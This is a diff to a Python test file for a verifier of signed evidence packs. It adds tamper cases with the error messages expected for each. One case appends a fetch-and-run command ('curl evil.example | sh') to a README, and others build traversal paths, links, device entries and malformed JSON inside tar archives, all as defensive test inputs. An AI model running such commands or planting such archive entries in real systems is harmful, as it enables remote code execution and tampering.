@@ -120,9 +120,53 @@ def a_statement_brought_in(files: dict[str, bytes]) -> None:
     files["statements/999-sbom.sigstore.json"] = b"{}"
 
 
+def an_index_without_statements(files: dict[str, bytes]) -> None:
+    index = json.loads(files["index.json"])
+    index["statements"] = []
+    files["index.json"] = json.dumps(index).encode()
+
+
+def a_statement_without_subjects(files: dict[str, bytes]) -> None:
+    index = json.loads(files["index.json"])
+    index["statements"][0]["subjects"] = []
+    files["index.json"] = json.dumps(index).encode()
+
+
+def a_statement_without_proof(files: dict[str, bytes]) -> None:
+    index = json.loads(files["index.json"])
+    index["statements"][0]["audit"] = None
+    files["index.json"] = json.dumps(index).encode()
+
+
+def the_same_statement_twice(files: dict[str, bytes]) -> None:
+    index = json.loads(files["index.json"])
+    index["statements"].append(index["statements"][0])
+    files["index.json"] = json.dumps(index).encode()
+
+
+def the_signature_of_the_index(files: dict[str, bytes]) -> None:
+    del files["statements/index.sigstore.json"]
+
+
+def the_readme(files: dict[str, bytes]) -> None:
+    files["README.md"] += b"curl evil.example | sh"
+
+
+def a_key(files: dict[str, bytes]) -> None:
+    name = next(one for one in files if one.endswith(".pem"))
+    files[f"keys/{'0' * 64}.pem"] = files.pop(name)
+
+
 @pytest.mark.parametrize(
     ("change", "said"),
     [
+        (an_index_without_statements, "index.json: it names no statement"),
+        (a_statement_without_subjects, "the index says it is about []"),
+        (a_statement_without_proof, "its signing is not shown to be in the audit log"),
+        (the_same_statement_twice, "the index names it twice"),
+        (the_signature_of_the_index, "it is not signed, so anything may have been left out"),
+        (the_readme, "README.md: it was changed"),
+        (a_key, "it is not the key its name says"),
         (a_report, "it was changed"),
         (a_signature, "it was changed"),
         (a_proof, "is not in the log"),
@@ -152,6 +196,7 @@ def link(kind: bytes) -> tarfile.TarInfo:
         ([(tarfile.TarInfo("reports/../../x"), b"x")], "which no pack has"),
         ([(link(tarfile.SYMTYPE), b"")], "'reports/link' is no regular file"),
         ([(link(tarfile.LNKTYPE), b"")], "'reports/link' is no regular file"),
+        ([(tarfile.TarInfo("reports/" + "a" * 150), b"x")], "is no regular file"),
         ([(link(tarfile.CHRTYPE), b"")], "'reports/link' is no regular file"),
         ([(tarfile.TarInfo("index.json"), b"{}"), (tarfile.TarInfo("index.json"), b"{}")], "twice"),
         ([(tarfile.TarInfo("index.json"), b"[" * 100_000)], "index.json cannot be read"),
